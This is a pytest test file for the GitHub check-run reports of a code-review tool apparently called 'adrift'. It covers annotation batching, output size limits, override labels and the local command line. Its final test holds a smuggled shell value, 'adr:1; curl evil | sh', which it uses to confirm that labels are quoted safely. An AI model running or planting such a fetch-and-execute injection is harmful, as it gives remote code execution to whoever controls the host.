"""What GitHub is given: within its limits, and nothing lost without a word."""

from dataclasses import replace
from datetime import UTC, datetime

import pytest

from app.report.check_run import AGAIN, LONGEST_OUTPUT, check_run_report, failure_report
from checks import Conclusion, Edge, Finding, Kind, Level, Override, PolicyIssue, Review, Side, Skipped, Status
from tests.report.findings import FINDING, NOTHING, numbered, review_of


@pytest.mark.parametrize(("count", "sizes"), [(0, []), (1, [1]), (50, [50]), (51, [50, 1]), (120, [50, 50, 20])])
def test_annotations_go_in_portions_of_fifty(count: int, sizes: list[int]) -> None:
    report = check_run_report(review_of(*numbered(count)))
    assert [len(portion) for portion in report.batches()] == sizes


def test_annotations_that_are_there_are_not_sent_again() -> None:
    report = check_run_report(review_of(*numbered(120)))
    present = report.annotations[:50]
    assert [portion[0]["start_line"] for portion in report.batches(present)] == [51, 101]


def test_what_is_found_for_the_first_time_is_not_taken_for_what_is_there() -> None:
    """An earlier try sent fifty; the base moved, the first ten of them are gone, and two are at one place."""
    found = numbered(120)
    present = check_run_report(review_of(*found[:50])).annotations
    report = check_run_report(review_of(*found[10:], replace(found[60], symbol="another")))
    sent = [one["start_line"] for portion in report.batches(present) for one in portion]
    assert sent == [*range(51, 121), 61]


def test_a_finding_of_the_whole_file_stands_on_its_first_line() -> None:
    (annotation,) = check_run_report(review_of(replace(FINDING, line=None))).annotations
    assert (annotation["start_line"], annotation["end_line"]) == (1, 1)


def test_a_finding_of_the_base_has_no_annotation() -> None:
    assert check_run_report(review_of(replace(FINDING, side=Side.LEFT))).annotations == ()


@pytest.mark.parametrize(
    ("finding", "level"),
    [
        (FINDING, "failure"),
        (replace(FINDING, level=Level.WARNING, status=Status.ADVICE), "warning"),
        (replace(FINDING, status=Status.OVERRIDDEN, override="adr:1"), "notice"),
    ],
)
def test_annotations_have_the_findings_level(finding: Finding, level: str) -> None:
    (annotation,) = check_run_report(review_of(finding)).annotations
    assert annotation["annotation_level"] == level


def test_policy_errors_are_annotations_at_their_lines() -> None:
    issue = PolicyIssue(".github/architecture.yml", 3, 5, "no such word")
    (annotation,) = check_run_report(replace(review_of(), policy_issues=(issue,))).annotations
    assert (annotation["path"], annotation["start_line"]) == (".github/architecture.yml", 3)


def apart(number: int) -> tuple[Finding, ...]:
    """Findings that have nothing in common."""
    return tuple(replace(one, target=f"t{one.line}") for one in numbered(number))


def summary(review: Review) -> str:
    return check_run_report(review).summary


@pytest.mark.parametrize(
    ("count", "is_continued", "is_cut"), [(3, False, False), (300, True, False), (900, True, True)]
)
def test_what_does_not_fit_into_the_summary_goes_on_in_the_text(count: int, is_continued: bool, is_cut: bool) -> None:
    report = check_run_report(review_of(*apart(count)))
    assert (("…continued" in report.summary), bool(report.text)) == (is_continued, is_continued)
    assert ("…cut" in report.text) == is_cut
    assert max(len(report.summary.encode()), len(report.text.encode())) <= LONGEST_OUTPUT
    told = [line for line in f"{report.summary}\n{report.text}".splitlines() if line.startswith("- `orders/api.py:")]
    assert len(told) == count or is_cut


def test_many_of_one_pair_are_told_together() -> None:
    report = check_run_report(review_of(*numbered(2000)))
    assert "<summary>The same holds for 1999 other places</summary>" in report.summary
    assert report.text == ""


def test_limits_hold_for_names_of_many_bytes() -> None:
    report = check_run_report(review_of(*(replace(one, path="\N{GRINNING FACE}" * 200) for one in apart(300))))
    assert max(len(report.summary.encode()), len(report.text.encode())) <= LONGEST_OUTPUT
    assert all(len(str(one["message"]).encode()) <= 65_536 for one in report.annotations)


def test_nothing_folded_is_cut_open() -> None:
    edges = tuple(Edge(f"a/{'x' * 250}{number}.py", f"b/{'y' * 250}.py", (1,), Kind.IMPORT) for number in range(500))
    delta = replace(NOTHING, added=edges, removed=edges)
    report = check_run_report(review_of(*apart(80), delta=delta))
    for text in (report.summary, report.text):
        assert text.count("<details>") == text.count("</details>")


def test_buttons_are_offered_where_pressing_one_may_help() -> None:
    red, green = check_run_report(review_of(FINDING)), check_run_report(review_of(conclusion=Conclusion.SUCCESS))
    assert (red.actions, green.actions, failure_report("x").actions) == ((AGAIN,), (), ())
    assert [len(AGAIN[part]) <= most for part, most in (("label", 20), ("description", 40), ("identifier", 20))] == [
        True
    ] * 3


def test_a_label_is_shown_with_who_put_it_when_and_why() -> None:
    put = Override(
        "adr:12",
        None,
        accepted=True,
        reason="docs/adr/0012.md is accepted",
        actor="ann",
        at=datetime(2026, 1, 2, 3, 4, tzinfo=UTC),
    )
    line = "- `adr:12` accepted, put by `ann` on 2026-01-02 at 03:04 UTC: docs/adr/0012.md is accepted"
    assert line in summary(replace(review_of(), overrides=(put,)))


def test_the_last_line_is_the_local_command() -> None:
    review = replace(review_of(*apart(2000)), overrides=(Override("adr:12", None, accepted=False, reason="none"),))
    last = summary(review).splitlines()[-1]
    assert last == f"Locally: `adrift review --repo . --base {'b' * 40} --head {'a' * 40} --label adr:12`"


def test_skipped_files_and_labels_are_listed() -> None:
    review = replace(
        review_of(delta=replace(NOTHING, skipped=(Skipped("a.py", "not valid Python"),))),
        overrides=(Override("adr:9", None, accepted=False, reason="there is no decision record `9`"),),
    )
    assert "`a.py`: `not valid Python`" in summary(review)
    assert "`adr:9` refused" in summary(review)


def test_without_a_policy_it_says_how_to_start() -> None:
    assert "version: 1" in summary(replace(review_of(), has_policy=False))


def test_a_review_that_could_not_finish_is_a_failure() -> None:
    report = failure_report("GitHub did not answer")
    assert (report.conclusion, report.title) == ("failure", "adrift could not finish")
    assert "GitHub did not answer" in report.summary


def test_a_label_cannot_run_in_the_shell_that_the_command_is_copied_to() -> None:
    hostile = "adr:1; curl evil | sh"
    text = summary(replace(review_of(), overrides=(Override(hostile, None, accepted=False, reason="x"),)))
    assert text.splitlines()[-1].endswith("--label 'adr:1; curl evil | sh'`")
